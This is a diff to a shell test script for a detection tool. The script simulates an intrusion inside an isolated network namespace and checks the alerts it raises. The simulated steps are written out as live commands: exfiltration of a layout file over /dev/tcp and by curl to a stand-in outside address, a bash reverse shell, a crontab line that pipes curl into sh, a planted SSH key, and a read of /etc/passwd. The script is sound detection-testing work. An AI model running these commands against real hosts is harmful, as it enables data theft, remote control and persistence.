@@ -5,7 +5,9 @@
 # stop it, and check the exact alerts, their ancestry, the incident and the
 # byte counts. Then the same with the proc-connector fallback for what it can
 # see. Nothing touches the host's real files: crontab and authorized_keys are
-# test copies; every listener is on 127.0.0.1 inside the namespace.
+# test copies; every listener is inside the namespace, on 203.0.113.7 (a
+# documentation address given to its loopback: outside the private ranges,
+# as an attacker's server would be, yet nothing leaves the namespace).
 # Last line: "watch: P passed, F failed".
 set -u
 cd "$(dirname "$0")/../.."
@@ -33,6 +35,7 @@ cleanup() {
 trap cleanup EXIT
 ip netns add "$NS" || { bad "ip netns add"; finish; }
 ip netns exec "$NS" ip link set lo up
+ip netns exec "$NS" ip addr add 203.0.113.7/32 dev lo
 N() { ip netns exec "$NS" "$@"; }
 # a listener is ready when the namespace shows it listening (a fixed sleep is
 # not enough on a loaded machine: the client is refused and the listener waits)
@@ -99,7 +102,7 @@ run_scenario() {   # run_scenario OUTDIR [watch options...]
     # a listener that takes uploads and counts the bytes
     N python3 -c '
 import socket,sys
-s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1",9000)); s.listen(8)
+s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("203.0.113.7",9000)); s.listen(8)
 for _ in range(2):
     c,_=s.accept(); n=0
     while True:
@@ -112,7 +115,7 @@ for _ in range(2):
     # and one that plays the attacker's end of a reverse shell
     N python3 -c '
 import socket
-s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1",4444)); s.listen(1)
+s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("203.0.113.7",4444)); s.listen(1)
 c,_=s.accept(); c.sendall(b"id\nexit\n"); c.settimeout(3)
 try:
     while c.recv(4096): pass
@@ -134,11 +137,13 @@ except Exception: pass
     check_caps "stoat watch $* after a SIGHUP reload"
     # staging of the jewels
     N bash -c "cd '$T' && tar czf /tmp/.stage-$$.tgz design && base64 -w0 design/tapeout/n2-top.gds > '$T/b64.txt'"
+    # an upload to a closed port: nothing is sent
+    N curl -s -m 5 -T "$T/design/spec.txt" http://203.0.113.7:9009/up >/dev/null 2>&1
     # exfiltration: the layout, raw over TCP (exact byte count), then a curl upload
-    N bash -c "cat '$T/design/tapeout/n2-top.gds' > /dev/tcp/127.0.0.1/9000"
-    N curl -s -m 5 -T "$T/design/spec.txt" http://127.0.0.1:9000/up >/dev/null 2>&1
+    N bash -c "cat '$T/design/tapeout/n2-top.gds' > /dev/tcp/203.0.113.7/9000"
+    N curl -s -m 5 -T "$T/design/spec.txt" http://203.0.113.7:9000/up >/dev/null 2>&1
     # a reverse shell
-    N bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' >/dev/null 2>&1
+    N bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' >/dev/null 2>&1
     # persistence on test copies
     N bash -c "echo '* * * * * curl -s http://127.0.0.1:9000/x | sh' >> '$T/spool/crontab'"
     N bash -c "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHacker attacker@x' >> '$T/home/eng/.ssh/authorized_keys'"
@@ -249,6 +254,19 @@ if mode == "ebpf":
           str(sorted(titles)))
     check("the exfiltration alert carries its process tree",
           any(len(a.get("ancestry", [])) >= 2 for a in ex), str([a.get("ancestry") for a in ex]))
+    check("no data sent out for the upload to a closed port",
+          ex and not any(a["event"].get("DestinationPort") == "9009" for a in ex),
+          str([(a["event"].get("DestinationPort"), a["event"].get("BytesSent")) for a in ex]))
+    check("every data-sent-out alert names bytes sent to the outside address",
+          ex and all(a["event"].get("DestinationIp") == "203.0.113.7" and int(a["event"].get("BytesSent", 0)) > 0
+                     for a in ex), str([a["event"] for a in ex]))
+    incs_ev = [e for a in alerts if a["kind"] == "incident" for e in a.get("evidence", [])]
+    check("the incident's evidence names the bytes of the layout sent out (%d)" % size,
+          any(e["tactic"] == "exfiltration" and "65.5 KB sent to 203.0.113.7:9000" in e["text"] for e in incs_ev),
+          str(incs_ev))
+    check("and that the upload to the closed port sent nothing",
+          any(e["tactic"] is None and "nothing sent by curl" in e["text"] and ":9009" in e["text"] for e in incs_ev),
+          str(incs_ev))
 arch = alert("Crown Jewels Archived Or Encoded")
 if mode == "ebpf":
     check("base64 of a layout alerted as jewels encoded",
@@ -295,7 +313,7 @@ replay_check() {
     grep -q "mode: ebpf" "$out/stderr" || { bad "stoat watch --capture did not start in eBPF mode: $(cat "$out/stderr")"; return; }
     N python3 -c '
 import socket
-s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1",9001)); s.listen(2)
+s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("203.0.113.7",9001)); s.listen(2)
 s.settimeout(60)
 for _ in range(2):
     c,_=s.accept()
@@ -306,8 +324,8 @@ for _ in range(2):
     wait_listen 9001
     N bash -c 'id; uname -a; cat /etc/passwd >/dev/null; ss -tunap >/dev/null; ps aux >/dev/null; whoami' >/dev/null 2>&1
     N bash -c "cd '$T' && tar czf /tmp/.stage-r$$.tgz design && base64 -w0 design/tapeout/n2-top.gds >/dev/null"
-    N bash -c "cat '$T/design/tapeout/n2-top.gds' > /dev/tcp/127.0.0.1/9001"
-    N curl -s -m 5 -T "$T/design/spec.txt" http://127.0.0.1:9001/up >/dev/null 2>&1
+    N bash -c "cat '$T/design/tapeout/n2-top.gds' > /dev/tcp/203.0.113.7/9001"
+    N curl -s -m 5 -T "$T/design/spec.txt" http://203.0.113.7:9001/up >/dev/null 2>&1
     N bash -c "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIReplay replay@x' >> '$T/home/eng/.ssh/authorized_keys'"
     rm -f "/tmp/.stage-r$$.tgz"
     wait "$LPID" 2>/dev/null
